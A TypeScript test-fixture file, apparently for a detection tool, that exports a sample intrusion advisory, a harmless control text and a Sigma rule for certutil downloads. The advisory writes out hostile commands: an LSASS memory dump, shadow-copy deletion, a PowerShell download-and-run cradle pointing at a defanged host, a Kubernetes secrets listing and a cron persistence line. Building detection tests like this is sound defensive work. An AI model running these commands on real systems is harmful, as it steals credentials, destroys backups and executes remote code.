/** An advisory written for these tests: behaviour on five platforms, and indicators. */
export const ADVISORY = `Brass Lantern moves from a laptop to the cloud

After a user opened the attachment, the loader ran the following command on the laptop:

rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\lsass.dmp full

The operators then deleted the shadow copies with this command:

vssadmin.exe delete shadows /all /quiet

A PowerShell stage was loaded straight into memory:

IEX (New-Object Net.WebClient).DownloadString('hxxp://brass-lantern-cdn[.]net/stage.ps1')

With the stolen keys the attackers called CreateUser, CreateAccessKey and AttachUserPolicy in AWS, and stopped the trail with StopLogging.

In the cluster they ran kubectl exec -it web-0 -- /bin/sh and listed secrets with kubectl get secrets --all-namespaces.

On a Linux host they installed persistence:

echo "*/5 * * * * /tmp/.brass" | crontab -
`;

/** A text in which nothing happens that a log source could show. */
export const NOTHING_TO_DETECT = 'Our annual picnic takes place on Saturday. Bring a salad and good shoes.';

/** A rule as a caller may bring it. */
export const BROUGHT_RULE = `title: Certutil Downloads A File
id: 5b7a3c0e-5d7b-4c56-9a57-0c9c6f1f7a11
status: experimental
description: Detects certutil used to download a file
references:
    - https://example.org/certutil
author: Tripline tests
date: 2026-01-05
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains|all:
            - 'urlcache'
            - 'http'
    condition: selection
falsepositives:
    - Administrative scripts
level: high
`;
